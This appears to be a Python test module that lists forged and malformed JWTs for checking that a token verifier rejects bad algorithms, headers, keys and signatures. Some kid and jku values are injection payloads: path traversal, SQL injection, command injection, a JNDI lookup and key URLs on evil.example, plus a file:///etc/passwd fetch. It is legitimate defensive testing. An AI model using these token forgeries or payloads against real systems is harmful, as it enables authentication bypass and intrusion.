"""Tokens with an invalid header or signature."""

from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature

from authn.attack_kit import (
    ABSENT,
    AUDIENCE,
    EVERY_MODE,
    Attack,
    by_hmac,
    by_other_key,
    headers,
    public,
    unsigned,
    with_signature_changed,
)

BY_HMAC = ("rsa", "secret")
BY_KID = ("rsa", "jwks")

ALGORITHMS = [
    *headers(
        ("algorithm", "key", "signature"),
        says_none={"alg": "none"},
        says_None={"alg": "None"},
        says_NONE={"alg": "NONE"},
        says_nOnE={"alg": "nOnE"},
        has_an_empty_algorithm={"alg": ""},
        has_no_algorithm={"alg": ABSENT},
        has_null_for_an_algorithm={"alg": None},
        has_a_number_for_an_algorithm={"alg": 256},
        has_a_list_for_an_algorithm={"alg": ["HS256"]},
        has_an_object_for_an_algorithm={"alg": {"alg": "HS256"}},
        says_PS512={"alg": "PS512"},
        says_dir={"alg": "dir"},
        says_RSA1_5={"alg": "RSA1_5"},
    ),
    *headers(("algorithm", "key", "signature"), modes=BY_HMAC, says_HS512={"alg": "HS512"}),
    *headers(("algorithm", "key", "signature"), modes=("rsa", "curve"), says_ES256K={"alg": "ES256K"}),
    Attack(
        "header with the algorithm in lower case",
        lambda mode: mode.sign(mode.header(alg=mode.algorithm.lower())),
        ("algorithm", "key", "signature"),
        EVERY_MODE,
    ),
    Attack(
        "header with a space after the algorithm",
        lambda mode: mode.sign(mode.header(alg=mode.algorithm + " ")),
        ("algorithm", "key", "signature"),
        EVERY_MODE,
    ),
    *[
        Attack(f"unsigned {name}", unsigned(name), ("form", "algorithm", "key", "signature"))
        for name in ("none", "None", "NONE")
    ],
    Attack(
        "unsigned with the right algorithm",
        lambda mode: mode.sign().rpartition(".")[0] + ".",
        ("form", "signature"),
        EVERY_MODE,
    ),
]

TYPES = headers(
    ("type",),
    of_a_logout_token={"typ": "logout+jwt"},
    of_a_DPoP_proof={"typ": "dpop+jwt"},
    of_a_security_event={"typ": "secevent+jwt"},
    of_a_key_binding={"typ": "kb+jwt"},
    of_an_authorization_request={"typ": "oauth-authz-req+jwt"},
    of_our_access_token={"typ": "tokensvc-access+jwt"},
    of_our_lease={"typ": "tokensvc-lease+jwt"},
    of_an_encrypted_token={"typ": "JWE"},
    with_an_empty_type={"typ": ""},
    with_a_null_type={"typ": None},
    with_a_number_as_type={"typ": 7},
    with_a_list_as_type={"typ": ["JWT"]},
    with_a_space_after_the_type={"typ": "JWT "},
    with_a_longer_type={"typ": "JWTX"},
)

EXTENSIONS = [
    *headers(
        ("extensions",),
        with_null_for_b64={"b64": None},
        with_b64_true={"b64": True},
        that_is_compressed={"zip": "DEF"},
        that_is_encrypted={"enc": "A128GCM"},
    ),
    *headers(
        ("extensions",),
        with_a_critical_extension={"crit": ["exp"], "exp": 1},
        with_an_unknown_extension={"crit": ["made-up"], "made-up": 1},
        with_an_empty_crit={"crit": []},
        with_a_string_as_crit={"crit": "exp"},
        with_null_for_crit={"crit": None},
        with_an_unencoded_payload={"b64": False, "crit": ["b64"]},
        with_an_undeclared_unencoded_payload={"b64": False},
    ),
]

KEY_IDS = [
    *headers(
        ("kid",),
        modes=BY_KID,
        with_an_empty_kid={"kid": ""},
        with_a_long_kid={"kid": "k" * 129},
        with_a_line_break_in_the_kid={"kid": "a\r\nX-Admin: 1"},
        with_a_null_byte_in_the_kid={"kid": "a\x00b"},
        with_a_Cyrillic_kid={"kid": "ключ"},
    ),
    *headers(
        ("kid",),
        modes=BY_KID,
        with_a_number_as_kid={"kid": 7},
        with_a_list_as_kid={"kid": ["a"]},
        with_an_object_as_kid={"kid": {"a": 1}},
        with_a_null_kid={"kid": None},
        with_true_as_kid={"kid": True},
    ),
    *[
        Attack(f"kid {name}", by_other_key(kid=kid), ("signature",), BY_KID)
        for name, kid in {
            "that is a path": "../../../../dev/null",
            "that is a device": "/proc/sys/kernel/randomize_va_space",
            "that is SQL": "x' UNION SELECT 'secret' --",
            "that is a command": "key|sleep 10",
            "that is a URL": "https://evil.example/key.pem",
            "that is a template": "${jndi:ldap://evil.example/a}",
        }.items()
    ],
]

OFFERED_KEYS = [
    Attack("key offered as nothing", by_other_key(), ("signature",), EVERY_MODE),
    Attack("key offered as jwk", by_other_key(jwk=public), ("signature",), EVERY_MODE),
] + [
    Attack(f"key offered as {name}", by_other_key(**header), ("signature",))
    for name, header in {
        "jku": {"jku": "https://evil.example/jwks.json"},
        "x5u": {"x5u": "https://evil.example/cert.pem"},
        "x5c": {"x5c": ["MIIB"]},
        "x5t": {"x5t": "AAAA", "x5t#S256": "AAAA"},
        "jku that looks like the issuer's": {"jku": "https://shop.example@evil.example/jwks.json"},
        "jku of a file": {"jku": "file:///etc/passwd"},
        "an empty jwk": {"jwk": {}},
        "a null jwk": {"jwk": None},
    }.items()
]

FAMILIES = [
    Attack(
        f"unknown key with {algorithm}",
        by_other_key(algorithm),
        ("algorithm", "key", "signature"),
        modes,
    )
    for algorithm, modes in {
        "ES384": ("rsa", "curve"),
        "PS384": ("rsa",),
        "HS384": BY_HMAC,
    }.items()
] + [
    Attack(f"HMAC keyed with {name}", by_hmac(secret), ("algorithm", "key", "signature"), modes)
    for modes, secrets in {
        BY_HMAC: {
            "an empty secret": b"",
            "a space": b" ",
            "the word secret": b"secret",
            "the example of jwt.io": b"your-256-bit-secret",
            "null bytes": b"\x00" * 32,
            "the issuer's name": lambda mode: mode.issuer.encode(),
            "the audience": AUDIENCE.encode(),
        },
        EVERY_MODE: {
            "the public key in PEM": lambda mode: mode.public_texts[0],
            "the public key in DER": lambda mode: mode.public_texts[1],
            "the public key as a JWK": lambda mode: mode.public_texts[2],
            "the public key without its last line break": lambda m: m.public_texts[0].rstrip(),
        },
    }.items()
    for name, secret in secrets.items()
]

SIGNATURES = [
    Attack(f"signature {name}", with_signature_changed(change), ("signature",), EVERY_MODE)
    for name, change in {
        "of null bytes": lambda raw: bytes(len(raw)),
        "of 64 null bytes": lambda _: bytes(64),
        "of one null byte": lambda _: b"\x00",
        "of ones": lambda raw: b"\xff" * len(raw),
        "without its last byte": lambda raw: raw[:-1],
        "without its first byte": lambda raw: raw[1:],
        "without its second half": lambda raw: raw[: len(raw) // 2],
        "with a byte after": lambda raw: raw + b"\x00",
        "with a byte before": lambda raw: b"\x00" + raw,
        "repeated": lambda raw: raw * 2,
        "reversed": lambda raw: raw[::-1],
        "with its halves swapped": lambda raw: raw[len(raw) // 2 :] + raw[: len(raw) // 2],
        "with its first bit changed": lambda raw: bytes([raw[0] ^ 128]) + raw[1:],
        "with its last bit changed": lambda raw: raw[:-1] + bytes([raw[-1] ^ 1]),
        "in DER": lambda raw: encode_dss_signature(
            int.from_bytes(raw[: len(raw) // 2]), int.from_bytes(raw[len(raw) // 2 :])
        ),
        "in hexadecimal": lambda raw: raw.hex().encode(),
        "that is text": lambda _: b"valid",
        "with r and s equal to one": lambda _: (1).to_bytes(32) * 2,
    }.items()
] + [
    Attack(
        "signature of other claims",
        lambda mode: ".".join(
            (
                *mode.sign(claims=mode.claims(sub="eve")).split(".")[:2],
                mode.sign().split(".")[2],
            )
        ),
        ("signature",),
        EVERY_MODE,
    ),
    Attack(
        "signature of another header",
        lambda mode: ".".join(
            (
                mode.sign(mode.header(cty="x")).split(".")[0],
                *mode.sign().split(".")[1:],
            )
        ),
        ("signature",),
        EVERY_MODE,
    ),
]

ON_SIGNATURES = [
    *ALGORITHMS,
    *TYPES,
    *EXTENSIONS,
    *KEY_IDS,
    *OFFERED_KEYS,
    *FAMILIES,
    *SIGNATURES,
]
